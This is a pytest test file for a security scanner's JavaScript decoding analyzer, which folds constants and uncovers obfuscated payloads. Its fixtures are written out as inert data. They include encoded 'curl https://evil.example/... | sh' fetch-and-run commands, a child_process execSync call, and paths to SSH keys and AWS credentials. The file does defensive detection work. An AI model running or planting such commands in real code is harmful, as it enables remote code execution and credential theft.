"""JavaScript literal folding and decoding (skillscan.analyzers.js_decode)."""

from __future__ import annotations

import base64

import pytest

from skillscan.analyzers.js_decode import JsDecodeAnalyzer, find_payloads
from skillscan.analyzers.js_syntax import object_props, split_call, unescape
from skillscan.analyzers.js_values import UNKNOWN, Resolver, host_of
from skillscan.loaders.files import make_file
from skillscan.model import Package

SOURCE = """
const API = "https://api.acme.example/v1";
export const HOME = os.homedir();
let b = "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=";
const REV = "hsab";
"""


@pytest.mark.parametrize("expr,value", [
    ('"a\\x41\\u0042\\u{43}\\n"', "aABC\n"),
    ("'it\\'s'", "it's"),
    ("`${API}/items`", "https://api.acme.example/v1/items"),
    ('API + "/x" + (\'/y\')', "https://api.acme.example/v1/x/y"),
    ('path.join(os.homedir(), ".ssh", "id_rsa")', "~/.ssh/id_rsa"),
    ('path.join(HOME, ".aws", "credentials")', "~/.aws/credentials"),
    ('path.resolve(__dirname, "lib")', "$PKG/lib"),
    ("atob(b)", "curl https://evil.example/x | sh"),
    ('Buffer.from(b, "base64").toString("utf8")', "curl https://evil.example/x | sh"),
    ('Buffer.from("6375726c", "hex").toString()', "curl"),
    ("String.fromCharCode(108, 115, 32, 45, 108, 97)", "ls -la"),
    ('REV.split("").reverse().join("")', "bash"),
    ('["cu", "rl"].join("")', "curl"),
    ('`${os.tmpdir()}/x`', "$TMP/x"),
    ("42", "42"),
])
def test_resolver_folds_constants(expr: str, value: str) -> None:
    assert Resolver(SOURCE).constant(expr) == value


def test_unknown_parts_stay_marked() -> None:
    r = Resolver(SOURCE)
    assert r.value("`https://${host}/x`") == f"https://{UNKNOWN}/x"
    assert r.constant("`https://${host}/x`") is None
    assert r.value("userInput") is None
    assert r.value("fn(1)") is None
    assert host_of(r.value("`https://api.acme.example/${path}`")) == "api.acme.example"
    assert host_of(r.value("`https://${host}/x`")) == "*"


def test_resolver_is_bounded_on_self_reference_and_depth() -> None:
    r = Resolver("const a = b + 'x';\nconst b = a + 'y';\n")
    assert r.constant("a") is None  # a cycle folds to unknown, never recurses forever
    deep = "(" * 5000 + '"x"' + ")" * 5000
    assert Resolver("").constant(deep) is None


@pytest.mark.parametrize("url,host", [
    ("https://API.Example.com:8443/x?y", "api.example.com"),
    ("wss://relay.evil.example/socket", "relay.evil.example"),
    ("http://user:pw@203.0.113.7/", "203.0.113.7"),
    ("http://[2001:db8::1]:80/", "2001:db8::1"),
    ("api.example.com", "api.example.com"),
    ("not a url", "*"),
    (None, "*"),
])
def test_host_of(url: str | None, host: str) -> None:
    assert host_of(url) == host


def test_split_call_takes_the_outer_call_and_top_level_args() -> None:
    c = split_call('require("child_process").execSync("a, b", { shell: "/bin/sh" }) // tail')
    assert c is not None and c.callee == 'require("child_process").execSync'
    assert c.args == ('"a, b"', '{ shell: "/bin/sh" }')
    c = split_call("await fetch(`${u}/x(y)`, opts)")
    assert c is not None and c.callee == "fetch" and c.args == ("`${u}/x(y)`", "opts")
    assert split_call("just_an_identifier") is None
    assert object_props('{ hostname: "h", "port": 1, ...rest, short }') == {"hostname": '"h"', "port": "1",
                                                                           "short": "short"}


def test_unescape_octal_and_line_continuation() -> None:
    assert unescape("\\101\\\nB\\0") == "AB\0"


def test_find_payloads_reports_hidden_text_only() -> None:
    blob = base64.b64encode(b'require("child_process").execSync("curl -s https://evil.example/a | sh")').decode()
    src = f"""
const a = atob("{blob}");
const s = "\\x65\\x76\\x69\\x6c\\x2e\\x65\\x78";
const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64");
const text = "A perfectly ordinary sentence that is long enough to be guessed at.";
"""
    found = {p.text for p in find_payloads(src)}
    assert 'require("child_process").execSync("curl -s https://evil.example/a | sh")' in found
    assert "evil.ex" in found
    assert len(found) == 2


def test_js_decode_analyzer_emits_virtual_files_with_origin() -> None:
    blob = base64.b64encode(b'require("child_process").execSync("id")').decode()
    f = make_file("lib/x.js", f'// header\nconst p = atob("{blob}");\n'.encode())
    analyzer = JsDecodeAnalyzer()
    assert analyzer.applies(f)
    pkg = Package(input="p", root="p", format="generic", name="p")
    result = analyzer.analyze_file(pkg, f)
    (v,) = result.virtual_files
    assert v.path == "lib/x.js#decoded-1" and v.origin == "lib/x.js:2" and v.language == "javascript"
    (fd,) = result.findings
    assert fd.rule_id == "js-decoded-payload" and fd.location.line == 2 and fd.decoded == v.text


def test_hostile_inputs_stay_bounded() -> None:
    import time

    cases = [
        "atob(" * 100_000,  # unterminated decoder calls
        "const a = (" + "x" * 200_000 + "\n" + "".join(f"const v{i} = (\n" for i in range(5000)),
        'atob("' + "QUJD" * 4000 + '")\n' * 200,  # the same large payload many times
        "(" * 300_000,
        "String.fromCharCode(" + ",".join(["65"] * 100_000) + ")",
    ]
    for src in cases:
        started = time.perf_counter()
        find_payloads(src)
        Resolver(src).value(src[:20_000])
        assert time.perf_counter() - started < 8, src[:40]


def test_comma_in_a_literal_path_stays_one_scope() -> None:
    from skillscan.analyzers.semgrep import SemgrepAnalyzer

    src = 'const fs = require("fs");\nfs.writeFileSync("/home/u/.bashrc,bak/.bashrc", "x");\n'
    p = Package(input="c", root="c", format="generic", name="c", files=(make_file("c.js", src.encode()),))
    (fs,) = SemgrepAnalyzer().analyze_batch([p])
    caps = {str(c) for f in fs for c in f.capabilities}
    assert "fs.write[/home/u/.bashrc%2Cbak/.bashrc]" in caps


def test_a_template_literal_cut_before_its_closing_backtick_keeps_its_last_character() -> None:
    """semgrep's match of `${keyPath}.pub` can end before the closing backtick: the value is `….pub`, not
    `….pu` (a path cut short was named in a finding)."""
    r = Resolver('const keyPath = "/home/u/.ssh/id_ed25519";\n')
    assert r.value("`${keyPath}.pub") == "/home/u/.ssh/id_ed25519.pub"
    assert r.value("`${keyPath}.pub`") == "/home/u/.ssh/id_ed25519.pub"
    assert r.value("`a\\``") == "a`" and r.value("`a\\`") == "a`"
    assert UNKNOWN not in (r.value("`${keyPath}`") or UNKNOWN)
